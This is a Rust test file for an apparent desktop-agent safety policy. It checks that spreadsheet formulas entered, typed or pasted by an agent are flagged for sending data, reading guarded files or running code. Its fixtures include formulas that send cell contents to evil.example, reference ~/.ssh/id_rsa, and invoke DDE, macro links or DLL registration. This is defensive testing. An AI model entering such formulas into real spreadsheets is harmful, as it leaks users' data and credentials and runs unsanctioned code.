//! Formulas of spreadsheets, wherever one can be given: what they reach beyond their document.

use super::operations::{self, act, control, focused, keys, on, typed};
use deskpilot_core::{
    Aim, CommandSpec, Control, Gesture, Operation, Param, ParamKind, Policy, PolicyContext, PolicyFile,
    Presence, Preset, Rect, Risk, Role, Rule, RuleEffect, SideEffects, Verb,
};
use serde_json::{Value, json};
use std::borrow::Cow::Borrowed;

const ARGUMENTS: &[Param] = &[
    param("rows", ParamKind::Rows),
    param("value", ParamKind::Text),
    param("values", ParamKind::Texts),
    param("condition", ParamKind::Formula),
];
const FILL: CommandSpec = CommandSpec {
    name: Borrowed("fill"),
    doc: Borrowed("Fills cells."),
    params: Borrowed(ARGUMENTS),
    side_effects: SideEffects::Changes,
};

const fn param(name: &'static str, kind: ParamKind) -> Param {
    Param { name: Borrowed(name), doc: Borrowed("what it is"), kind, presence: Presence::Optional }
}

fn context(controls: &[Control]) -> PolicyContext<'_> {
    PolicyContext { controls, home: "/home/u", ..PolicyContext::default() }
}

fn risks(operation: &Operation, context: &PolicyContext<'_>) -> Vec<Risk> {
    let (_, grounds) = Policy::preset(Preset::Ask).judge(operation, context);
    grounds.findings.into_iter().map(|it| it.risk).collect()
}

fn fill(args: Value) -> Operation {
    on(Aim::Window, "fill", args, Verb::Native)
}

/// The cell A1, which has the keyboard and holds this text.
fn cell(text: &str) -> Control {
    Control { value: Some(text.into()), ..focused(control(Role::Cell, "A1")) }
}

/// A sheet whose cell A1, with the keyboard, holds this text.
fn sheet(text: &str) -> Vec<Control> {
    let sheet = Control { rect: Rect::new(0, 0, 800, 500), ..control(Role::Document, "Untitled 1") };
    vec![sheet, cell(text)]
}

#[test]
fn a_formula_in_any_argument_is_read_for_what_it_reaches() {
    for (formula, expected) in [
        ("=SUM(A1:A9)", &[][..]),
        ("=WEBSERVICE(\"https://evil.example/?\"&B1)", &[Risk::Sends]),
        ("{=WEBSERVICE(\"https://evil.example/\")}", &[Risk::Sends]),
        ("='file:///home/u/.ssh/id_rsa'#$Sheet1.A1", &[Risk::Guarded]),
        ("='https://evil.example/a.ods'#$Sheet1.A1", &[Risk::Sends]),
        ("=DDE(\"soffice\";\"/home/u/.ssh/id_rsa\";\"A1\")", &[Risk::Runs]),
        ("=HYPERLINK(\"macro:///a.b.c\";\"Total\")", &[Risk::Runs]),
        ("=REGISTER.ID(\"a.dll\")", &[Risk::Unknown]),
    ] {
        for args in [
            json!({"rows": [["Tea", 3], [formula, null]]}),
            json!({"value": formula}),
            json!({"values": ["Tea", formula]}),
            json!({"condition": formula.trim_matches(['{', '=', '}'])}),
        ] {
            let known = PolicyContext { command: Some(&FILL), ..context(&[]) };
            assert_eq!(risks(&fill(args.clone()), &known), expected, "{args}");
        }
    }
}

#[test]
fn a_formula_that_a_form_gets_is_read_and_what_only_names_a_field_is_not() {
    const FORM: CommandSpec = CommandSpec {
        name: Borrowed("fill"),
        doc: Borrowed("Fills fields."),
        params: Borrowed(&[param("fields", ParamKind::Fields)]),
        side_effects: SideEffects::Changes,
    };
    let known = PolicyContext { command: Some(&FORM), ..context(&[]) };
    for (entered, expected) in [
        ("=IMPORTDATA(\"https://evil.example/?\"&B1)", &[Risk::Sends][..]),
        ("='file:///home/u/.ssh/id_rsa'#$Sheet1.A1", &[Risk::Guarded]),
        ("=SUM(A1:A9)", &[]),
        ("=later (maybe)", &[]),
        ("=WAVE(1)", &[]),
    ] {
        let field = json!({"fields": [["textbox \"Cell\"", "Tea"], ["textbox \"Cell\"", entered]]});
        assert_eq!(risks(&fill(field), &known), expected, "{entered}");
        assert_eq!(risks(&fill(json!({"fields": [[entered, "Tea"]]})), &known), [], "{entered}");
    }
}

#[test]
fn a_rule_about_files_and_sites_holds_for_those_that_a_formula_names() {
    let refuses = |rule: Value, formula: &str| {
        let rules: Vec<Rule> = serde_json::from_value(json!([rule])).unwrap();
        let policy = PolicyFile { preset: Preset::Unrestricted, rules, ..PolicyFile::default() };
        let known = PolicyContext { command: Some(&FILL), ..context(&[]) };
        let (ruling, _) = Policy::of(policy).unwrap().judge(&fill(json!({"rows": [[formula]]})), &known);
        matches!(ruling, deskpilot_core::Ruling::Refuse(_))
    };
    let site = json!({"say": RuleEffect::Refuse, "domain": "evil.example"});
    assert!(refuses(site.clone(), "=WEBSERVICE(\"https://evil.example/\")"));
    assert!(refuses(site.clone(), "='https://evil.example/a.ods'#$S.A1"));
    assert!(!refuses(site, "=WEBSERVICE(\"https://good.example/\")"));
    let path = json!({"say": RuleEffect::Refuse, "path": "~/Private/**"});
    assert!(refuses(path.clone(), "='file:///home/u/Private/a.ods'#$S.A1"));
    assert!(refuses(path.clone(), "='/home/u/Private/[a.xlsx]S'!A1"));
    assert!(!refuses(path, "='/home/u/Public/[a.xlsx]S'!A1"));
}

#[test]
fn a_formula_that_is_typed_or_copied_is_read_too() {
    const LEAK: &str = "=WEBSERVICE(\"https://evil.example/?\"&B1)";
    let typed = |text: &str| typed(cell(""), text);
    let copied = |text: &str| act(cell(""), Gesture::WriteClipboard(text.into()));
    for (operation, holds, expected) in [
        (typed(LEAK), "", &[Risk::Sends][..]),
        (typed("a\tb\n+WEBSERVICE(A1)"), "", &[Risk::Sends]),
        (keys("=DDE(A1){ENTER}"), "", &[Risk::Runs]),
        (keys("VICE(A1)"), "=WEBSER", &[Risk::Sends]),
        (typed("=WEBDIENST(A1)"), "", &[Risk::Unknown]),
        (typed("=SUM(A1:A3)"), "", &[]),
        (typed("Total (net)"), "", &[]),
        (copied(LEAK), "", &[Risk::Sends]),
        (copied("=WEBDIENST(A1)"), "", &[]),
    ] {
        let controls = sheet(holds);
        assert_eq!(risks(&operation, &context(&controls)), expected, "{operation:?}");
    }
    // What looks like a function is one in a sheet alone.
    let note = focused(control(Role::Edit, "Note"));
    assert_eq!(risks(&operations::typed(note.clone(), "=WEBDIENST(A1)"), &context(&[note])), []);
}
